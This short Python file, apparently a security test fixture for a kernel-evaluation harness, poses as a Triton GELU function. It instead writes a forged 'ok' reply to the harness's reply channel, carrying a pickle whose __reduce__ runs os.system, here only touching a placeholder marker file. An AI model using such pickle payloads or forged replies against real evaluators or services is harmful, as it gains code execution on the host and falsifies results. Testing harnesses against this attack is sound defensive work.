"""Attack: answer a call with a forged reply whose payload is a pickle that runs a command."""
import json
import pickle
import time
import os
import struct
import sys

REPLY_FD = int(sys.argv[sys.argv.index("--rep-fd") + 1])


class _Payload:
    def __reduce__(self):
        return (os.system, ("touch @@MARKER@@",))


def triton_gelu(x):
    blob = pickle.dumps({"out": _Payload()})
    meta = {"out": {"type": "torch.Tensor", "exact": True, "layout": "strided", "device": "cpu", "dtype": str(x.dtype)[6:], "shape": list(x.shape), "stride": list(x.stride()), "aliases": []}, "_notes": {}}
    head = json.dumps({"status": "ok", "meta": meta, "inputs_changed": [], "triton_launches": 1, "profile": {"aten_ops": [], "gpu_kernels": [], "triton_launches": 1}, "blob": len(blob)}).encode()
    os.write(REPLY_FD, struct.pack("<Q", len(head)) + head + blob)
    time.sleep(3600)
